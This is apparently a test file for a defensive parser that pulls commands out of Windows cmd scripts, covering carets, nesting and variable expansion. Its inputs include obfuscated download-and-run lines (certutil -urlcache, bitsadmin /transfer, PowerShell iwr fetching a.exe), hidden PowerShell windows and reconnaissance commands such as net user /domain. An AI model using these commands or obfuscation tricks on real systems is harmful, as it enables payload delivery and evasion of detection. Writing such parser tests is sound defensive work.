"""cmd commands by cmd's own rules: carets, separators, redirections, blocks and `cmd /c` nesting."""

from __future__ import annotations

from inspector.commands import Shell, extract_commands
from inspector.commands.cmd import cmd_script


def commands(text: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(c.program, c.arguments) for c in extract_commands(text, Shell.CMD)]


def test_separators_outside_quotes_split_commands() -> None:
    assert commands('echo "a & b" & ping -n 1 x && whoami || exit /b 1 | more') == [
        ("echo", ("a & b",)), ("ping", ("-n", "1", "x")), ("whoami", ()), ("exit", ("/b", "1")), ("more", ())]


def test_carets_escape_and_are_dropped() -> None:
    found = commands("p^ow^ers^hell -w^ h^idden -c calc ^& whoami")
    assert found[0] == ("powershell", ("-w", "hidden", "-c", "calc", "&", "whoami"))


def test_a_caret_at_the_end_of_a_line_joins_the_next() -> None:
    assert commands("certutil -urlcache ^\n -f http://x/a a.exe") == [
        ("certutil", ("-urlcache", "-f", "http://x/a", "a.exe"))]


def test_redirections_are_arguments_of_their_own() -> None:
    assert commands("whoami > out.txt 2>&1") == [("whoami", (">", "out.txt", "2>&1"))]


def test_set_values_are_expanded_in_later_lines() -> None:
    assert commands("set U=http://x/a\nbitsadmin /transfer j %U% %TEMP%\\a.exe")[1] == (
        "bitsadmin", ("/transfer", "j", "http://x/a", "%TEMP%\\a.exe"))


def test_echo_off_labels_comments_and_block_syntax_are_not_commands() -> None:
    text = "@echo off\n:start\nrem note\n:: note\nif exist a.exe (start a.exe)\nfor %%i in (1 2) do call run.cmd %%i"
    assert commands(text) == [("echo", ("off",)), ("start", ("a.exe",)), ("run.cmd", ("%%i",))]


def test_cmd_c_runs_its_command_line_whose_commands_follow_it() -> None:
    (outer, *inner) = extract_commands('cmd.exe /c "certutil -urlcache -f http://x/a a.exe & a.exe" > nul', Shell.CMD)
    assert outer.program == "cmd" and cmd_script(outer) == "certutil -urlcache -f http://x/a a.exe & a.exe"
    assert [(c.program, c.shell) for c in inner] == [("certutil", Shell.CMD), ("a", Shell.CMD)]
    assert inner[0].parent_image == "C:\\Windows\\System32\\cmd.exe"


def test_nesting_crosses_shells_cmd_to_powershell() -> None:
    found = extract_commands('cmd /c powershell -w h -c "iwr http://x -OutFile a.exe"', Shell.CMD)
    assert [(c.program, c.shell) for c in found] == [
        ("cmd", Shell.CMD), ("powershell", Shell.CMD), ("invoke-webrequest", Shell.POWERSHELL)]


def test_images_for_programs_and_none_for_builtins() -> None:
    (net, echo, local) = extract_commands("NET.EXE user\necho x\nC:\\Tools\\x.exe /q", Shell.CMD)
    assert net.program == "net" and net.image == "C:\\Windows\\System32\\net.exe"
    assert echo.image == ""
    assert local.program == "c:\\tools\\x" and local.image == "c:\\tools\\x.exe"


def test_offsets_point_at_the_command() -> None:
    text = "@echo off\r\n  whoami /all & net user\r\n"
    found = extract_commands(text, Shell.CMD)
    assert [text[c.offset:c.offset + c.length] for c in found[1:]] == ["whoami /all", "net user"]


def test_substrings_of_script_and_stock_variables_are_cut_as_cmd_cuts_them() -> None:
    assert commands("set a=xxwhoamixx\n%a:~2,6% /all")[1] == ("whoami", ("/all",))
    assert commands("set a=abcwhoami\n%a:~-6%")[1] == ("whoami", ())
    assert commands("%COMSPEC:~-7,3% /c ver")[0] == ("cmd", ("/c", "ver"))


def test_substitutions_replace_text_and_star_cuts_up_to_the_first_match() -> None:
    assert commands("set p=pZowZersZhell\n%p:Z=% -nop")[1] == ("powershell", ("-nop",))
    assert commands("set p=junk;netstat\n%p:*;=% -ano")[1] == ("netstat", ("-ano",))


def test_a_variable_nobody_set_stays_as_written() -> None:
    assert commands("copy a.exe %TEMP%\\a.exe") == [("copy", ("a.exe", "%TEMP%\\a.exe"))]


def test_delayed_expansion_sees_a_set_earlier_on_the_same_line() -> None:
    found = commands("setlocal EnableDelayedExpansion\nset a=who&& set b=ami&& !a!!b! /priv")
    assert found[-1] == ("whoami", ("/priv",))


def test_a_block_opened_on_the_line_separates_its_commands() -> None:
    assert commands("if exist x.cfg (copy x.cfg y.cfg) else (echo none & whoami)") == [
        ("copy", ("x.cfg", "y.cfg")), ("echo", ("none",)), ("whoami", ())]
    assert commands("echo (not a block)") == [("echo", ("(not", "a", "block)"))]


def test_a_block_after_a_very_long_command_is_still_found_by_how_the_command_ends() -> None:
    long_list = " ".join(f"f{i}.txt" for i in range(1000))  # past what is read whole for an if head
    assert commands(f"for %%f in ({long_list}) do (del %%f)")[-1] == ("del", ("%%f",))
    assert commands(f"echo {long_list} (not a block)")[0][0] == "echo"
    assert len(commands(f"echo {long_list} (not a block)")) == 1


def test_blocks_over_several_lines_give_their_inner_commands() -> None:
    text = 'if "%1"=="" (\n  net user\n) else (\n  net view\n)\nfor /f "tokens=1" %%a in (\'dir /b\') do (\n  echo %%a\n)'
    assert commands(text) == [("net", ("user",)), ("net", ("view",)), ("echo", ("%%a",))]


def test_for_f_runs_the_command_after_do() -> None:
    assert commands('for /f "usebackq tokens=*" %%i in (`whoami`) do set me=%%i')[0][0] == "set"
    assert commands("for /f %%i in (hosts.txt) do ping -n 1 %%i") == [("ping", ("-n", "1", "%%i"))]


def test_call_is_looked_through_to_the_program_it_runs() -> None:
    assert commands("call net user")[0] == ("net", ("user",))


def test_nested_cmd_c_with_carets_and_redirections() -> None:
    # carets inside the quotes are the inner cmd's to drop, not the outer one's
    found = extract_commands('c^md /c "n^et us^er /domain > %TEMP%\\u.txt 2>&1"', Shell.CMD)
    assert [(c.program, c.arguments) for c in found] == [
        ("cmd", ("/c", "n^et us^er /domain > %TEMP%\\u.txt 2>&1")),
        ("net", ("user", "/domain", ">", "%TEMP%\\u.txt", "2>&1"))]
